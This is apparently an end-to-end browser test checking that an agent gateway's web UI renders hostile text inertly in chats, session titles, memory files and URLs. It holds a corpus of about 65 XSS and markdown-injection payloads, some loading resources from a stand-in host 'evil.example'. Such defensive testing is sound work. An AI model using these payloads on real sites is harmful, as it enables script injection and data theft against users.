import { join } from "node:path";
import type { Browser, Page } from "playwright-core";
import { createTestGateway, type TestGateway } from "svc/sdk/testing";
import { afterAll, beforeAll, expect } from "vitest";
import { needs } from "../servers/needs.ts";
import { launchChromium, type Tab, takeTab } from "./_browser.ts";

const { test } = needs("chromium");

const mirror = join(import.meta.dirname, "../fixtures/plugins/model-mirror");
const plugins = ["store", "agents", "memory-core", "control-ui", mirror];

/** Every one would set `window.pwned`, open a dialog or load something if it were taken for markup, code or a followed link. */
const corpus = [
  "<script>pwned=1</script>",
  "<script src=//evil.example/x.js></script>",
  "<scr<script>ipt>pwned=1</scr</script>ipt>",
  "<SCRIPT\n>pwned=1</SCRIPT\n>",
  "<img src=x onerror=pwned=1>",
  "<img src=x onerror='pwned=1'//",
  '<img src="x` `<script>pwned=1</script>"` `>',
  "<svg onload=pwned=1>",
  "<svg><script>pwned=1</script></svg>",
  "<svg><animate onbegin=pwned=1 attributeName=x dur=1s>",
  "<svg><a xlink:href=javascript:pwned=1><text>x</text></a></svg>",
  "<math><mtext></form><form><mglyph><style></math><img src onerror=pwned=1>",
  '<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>',
  "<iframe src=javascript:parent.pwned=1></iframe>",
  "<object data=javascript:pwned=1></object>",
  "<embed src=javascript:pwned=1>",
  "<body onload=pwned=1>",
  "<details open ontoggle=pwned=1>",
  "<input autofocus onfocus=pwned=1>",
  "<video><source onerror=pwned=1></video>",
  "<audio src onerror=pwned=1>",
  "<marquee onstart=pwned=1>",
  "<base href=//evil.example/>",
  "<meta http-equiv=refresh content='0;url=//evil.example'>",
  "<link rel=stylesheet href=//evil.example/x.css>",
  "<style>@import '//evil.example/x.css'; body{display:none}</style>",
  "<form action=javascript:pwned=1><button>x</button></form>",
  "<a href=javascript:pwned=1>click</a>",
  "<template><script>pwned=1</script></template>",
  "<noscript><p title='</noscript><img src=x onerror=pwned=1>'>",
  "[a](javascript:pwned=1)",
  "[a](JaVaScRiPt:pwned=1)",
  "[a](java\tscript:pwned=1)",
  "[a](java&#10;script:pwned=1)",
  "[a](&#106;avascript:pwned=1)",
  "[a](javascript&colon;pwned=1)",
  "[a](\u0001javascript:pwned=1)",
  "[a](\u200bjavascript:pwned=1)",
  "[a](data:text/html,<script>pwned=1</script>)",
  "[a](data:text/html;base64,PHNjcmlwdD5wd25lZD0xPC9zY3JpcHQ+)",
  "[a](vbscript:msgbox)",
  "[a](//evil.example/x)",
  '[a](https://example.org "onmouseover=pwned=1")',
  '[a](https://example.org/"onmouseover="pwned=1)',
  "![x](javascript:pwned=1)",
  "![x](https://evil.example/track.png)",
  '![x](x "onerror=pwned=1")',
  "<https://example.org/<script>pwned=1</script>>",
  "<javascript:pwned=1>",
  "[ref]: javascript:pwned=1\n[ref]",
  "```html\n<script>pwned=1</script>\n```",
  '```"><script>pwned=1</script>\ncode\n```',
  "`<img src=x onerror=pwned=1>`",
  "| a |\n|---|\n| <img src=x onerror=pwned=1> |",
  "- [ ] <img src=x onerror=pwned=1>",
  "# <img src=x onerror=pwned=1>",
  "> <script>pwned=1</script>",
  "&lt;script&gt;pwned=1&lt;/script&gt;",
  "&#60;img src=x onerror=pwned=1&#62;",
  "\u202e<script>pwned=1</script>",
  "Source: javascript:pwned=1.md#L1",
  'Source: "><img src=x onerror=pwned=1>.md#L1-L2',
  "{{constructor.constructor('pwned=1')()}}",
  "$" + "{pwned=1}",
  "__proto__[pwned]=1",
];

let gateway: TestGateway;
let browser: Browser;
let tab: Tab;

beforeAll(async () => {
  const notes = { "MEMORY.md": corpus.join("\n\n"), "memory/<img src=x onerror=pwned=1>.md": `# zebra\n\n${corpus.join("\n\n")}` };
  gateway = await createTestGateway({ plugins, workspace: notes });
  browser = await launchChromium();
});
afterAll(async () => {
  await browser?.close();
  await gateway?.close();
});

/** Expects that no text has run a script or put markup of its own into the page. */
async function expectUnharmed(page: Page): Promise<void> {
  const found = await page.evaluate(() => ({
    pwned: (window as unknown as { pwned?: unknown }).pwned,
    markup: [
      ...document.querySelectorAll(
        "main :is(script, iframe, object, embed, form[action], base, meta, link, style, img, video, audio, math, template, marquee)",
      ),
    ].map((e) => e.outerHTML),
    handlers: [...document.querySelectorAll("main *")]
      .filter((e) => [...e.attributes].some((a) => a.name.startsWith("on") || a.name === "srcdoc"))
      .map((e) => e.outerHTML),
    links: [...document.querySelectorAll<HTMLAnchorElement>("main a[href]")].map((a) => a.protocol),
    blanks: [...document.querySelectorAll<HTMLAnchorElement>('main a[target="_blank"]')].filter((a) => !a.rel.includes("noopener")).length,
  }));
  expect(found.pwned).toBeUndefined();
  expect(found.markup).toEqual([]);
  expect(found.handlers).toEqual([]);
  expect(found.links.filter((protocol) => !["http:", "https:", "mailto:"].includes(protocol))).toEqual([]);
  expect(found.blanks).toBe(0);
}

async function visit(page: Page, address: string): Promise<void> {
  await page.evaluate((hash) => {
    location.hash = hash;
  }, address);
}

test(`${corpus.length} hostile texts stay texts in messages, titles, lists, errors and files`, async () => {
  const foreign: string[] = [];
  tab = await takeTab(browser);
  const { page } = tab;
  page.on(
    "request",
    (request) => !request.url().startsWith(gateway.url) && !request.url().startsWith("data:image/svg+xml") && foreign.push(request.url()),
  );
  for (const [i, text] of corpus.entries()) {
    await gateway.rpc("chat.send", { sessionKey: "agent:main:hostile", message: text, idempotencyKey: `hostile-${i}` });
    await gateway.rpc("chat.send", { sessionKey: `agent:main:${i}`, message: text, idempotencyKey: `title-${i}` });
    await gateway.rpc("agent.wait", { runId: `title-${i}` });
  }
  await gateway.rpc("agent.wait", { runId: `hostile-${corpus.length - 1}` });
  await gateway.rpc("sessions.patch", { key: "agent:main:1", label: "<img src=x onerror=pwned=1>" });
  await page.goto(`${gateway.url}/#token=${gateway.token}`);
  await page.getByText("Connected", { exact: true }).waitFor();

  await visit(page, "#/chat/agent%3Amain%3Ahostile");
  await page.locator(".turn").first().waitFor();
  for (let i = 0; i < 20; i++) await page.locator(".transcript").press("PageUp");
  await expectUnharmed(page);
  await page.locator(".transcript").press("End");
  await expectUnharmed(page);
  await visit(page, "#/sessions");
  await page.getByText("<img src=x onerror=pwned=1>").first().waitFor();
  await page.locator(".session", { hasText: "<img src=x onerror=pwned=1>" }).first().getByRole("button").click();
  await page.getByRole("menuitem", { name: "Delete" }).click();
  await page.getByRole("dialog").waitFor();
  await expectUnharmed(page);
  await page.keyboard.press("Escape");
  await visit(page, `#/memory/file/${encodeURIComponent("memory/<img src=x onerror=pwned=1>.md")}?l=1-3`);
  await page.locator("mark").first().waitFor();
  await expectUnharmed(page);
  await visit(page, "#/memory/file/%3Cscript%3Epwned%3D1%3C%2Fscript%3E?l=<b>");
  await page.locator(".notice").waitFor();
  await visit(page, "#/%3Cimg%20src=x%20onerror=pwned=1%3E/x?y=<b>");
  await page.getByText("There is no page at this address.").waitFor();
  await visit(page, "#/sessions?q=%3Cscript%3Epwned=1%3C/script%3E");
  await page.getByRole("searchbox").waitFor();
  await expectUnharmed(page);

  expect(foreign).toEqual([]);
  expect(tab.problems).toEqual([]);
  await tab.leave();
});

test("what is shown of them is what was written", async () => {
  tab = await takeTab(browser);
  const { page } = tab;
  await page.goto(`${gateway.url}/#token=${gateway.token}`);
  await page.getByText("Connected", { exact: true }).waitFor();
  for (const text of ["<svg onload=pwned=1>", "<iframe src=javascript:parent.pwned=1></iframe>", "![x](https://evil.example/track.png)"]) {
    await visit(page, `#/chat/agent%3Amain%3A${corpus.indexOf(text)}`);
    await page.locator(".bubble", { hasText: text }).waitFor();
    await page.locator(".answer .md", { hasText: text }).waitFor();
  }

  expect(tab.problems).toEqual([]);
  await tab.leave();
});
